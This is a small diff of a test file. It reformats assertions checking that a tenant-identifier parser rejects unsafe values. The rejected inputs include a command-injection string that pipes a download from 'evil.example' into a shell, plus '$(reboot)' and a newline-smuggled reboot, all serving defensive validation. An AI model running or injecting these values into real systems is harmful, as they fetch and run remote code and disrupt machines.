@@ -28,9 +28,13 @@ test("reads a day, and nothing else that looks like one", () => {
 });
 
 test("reads the identifier of a tenant, and nothing that a shell would act on", () => {
-  expect(searchOf({ tenantIdentifier })({ tenantIdentifier: "shop-2" })).toEqual({ tenantIdentifier: "shop-2" });
+  expect(searchOf({ tenantIdentifier })({ tenantIdentifier: "shop-2" })).toEqual({
+    tenantIdentifier: "shop-2",
+  });
   for (const wrong of ["shop; curl evil.example | sh", "$(reboot)", "shop\nreboot", "", 12])
-    expect(searchOf({ tenantIdentifier })({ tenantIdentifier: wrong })).toEqual({ tenantIdentifier: undefined });
+    expect(searchOf({ tenantIdentifier })({ tenantIdentifier: wrong })).toEqual({
+      tenantIdentifier: undefined,
+    });
 });
 
 test("takes days of tasks as whole days where the reader is", () => {
